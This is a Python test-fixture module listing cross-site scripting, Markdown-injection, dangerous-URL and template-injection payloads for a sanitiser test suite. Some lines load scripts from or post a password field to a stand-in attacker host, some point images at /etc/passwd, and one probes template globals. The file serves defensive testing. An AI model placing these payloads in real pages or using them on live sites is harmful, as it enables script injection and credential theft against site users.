"""Known attacks on text that reaches a page, grouped by class: the OWASP XSS filter-evasion list,
plus what Markdown and its extensions add (attribute lists, reference links, odd URL schemes).

Each is tried in a YAML field, in a PO msgstr and in a hand-written page (tests/test_hostile.py).
"""

from __future__ import annotations

ATTACKS: dict[str, list[str]] = {
    "script element": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        '<<SCRIPT>alert("XSS");//<</SCRIPT>',
        "<SCRIPT/XSS SRC=//evil.example/x.js></SCRIPT>",
        '<script>alert(1)</script  foo="bar">',
        "</title><script>alert(1)</script>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    ],
    "event handler in HTML": [
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        '<BODY ONLOAD=alert("XSS")>',
        "<svg/onload=alert(1)>",
        '<b onclick="x()">vet</b>',
        "<details open ontoggle=alert(1)>",
        '<a href="https://example.org" onmouseover="alert(1)">link</a>',
        '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    ],
    "attribute list": [
        'Een zin.\n{: onmouseover="alert(1)" }',
        "Een zin. {: onclick=alert(1) }",
        "[link](https://example.org){ onclick=alert(1) }",
        '[link](https://example.org){ href="javascript:alert(1)" }',
        "*nadruk*{ onmouseover=alert(1) }",
        "# Titel { #__config onclick=alert(1) }",
        "**vet**{: style='position:fixed' }",
    ],
    "dangerous link scheme": [
        "[klik](javascript:alert(1))",
        "[klik](JaVaScRiPt:alert(1))",
        "[klik](java\tscript:alert(1))",
        "[klik](java\nscript:alert(1))",
        "[klik](java&#9;script:alert(1))",
        "[klik](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
        "[klik](&#x6A;avascript:alert(1))",
        "[klik]( \x01javascript:alert(1))",
        "[klik](vbscript:msgbox(1))",
        "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[klik][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "[klik](<javascript:alert(1)>)",
    ],
    "image: local file or remote request": [
        "![x](file:///etc/passwd)",
        "![x](/etc/passwd)",
        "![x][r]\n\n[r]: /etc/hostname",
        "![x](https://tracker.example/pixel.png)",
        "![x](//tracker.example/pixel.png)",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    ],
    "other HTML": [
        "<style>body{display:none}</style>",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example/">',
        '<form action="https://evil.example"><input name="pw"></form>',
        '<object data="https://evil.example/x.swf"></object>',
        "<!-- <script>alert(1)</script> -->",
        '<div style="background:url(javascript:alert(1))">x</div>',
    ],
    "template syntax": [
        "{{ 7 * 7 }}",
        "{% for x in range(9) %}x{% endfor %}",
        "{{ config.__class__.__init__.__globals__ }}",
        "{# commentaar #}",
    ],
}


# Inert even without any boundary: Markdown makes no link, attribute or tag of these, so they
# stand on the page as the text they are (an attribute list works only on a line of its own).
INERT = [
    "Een zin. {: onclick=alert(1) }",
    "[klik](java\tscript:alert(1))",
    "<javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<!-- <script>alert(1)</script> -->",
]


def every_attack() -> list[tuple[str, str]]:
    return [(kind, payload) for kind, payloads in ATTACKS.items() for payload in payloads]
